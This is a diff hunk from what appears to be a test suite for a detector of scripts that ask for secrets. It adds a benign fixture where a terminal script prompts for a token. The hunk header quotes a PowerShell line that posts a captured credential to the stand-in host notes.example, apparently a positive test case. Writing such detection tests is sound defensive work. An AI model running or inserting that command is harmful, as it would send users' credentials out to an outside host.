@@ -46,6 +46,15 @@ Invoke-RestMethod https://notes.example/ -Method Post -Body $c.GetNetworkCredent
       files: { "install.sh": "sudo apt-get install -y jq\n" },
     },
     {
+      name: "a question in the terminal",
+      why: "The person started the command and sees that it is the one that asks.",
+      files: {
+        "release.sh": `read -n 1 -s -r -p "Press any key to continue"
+read -s -p "Token: " token
+`,
+      },
+    },
+    {
       name: "a window that asks for a name",
       why: "What is typed is shown, so it is no password.",
       files: { "name.scpt": 'display dialog "What is your name?" default answer ""\n' },
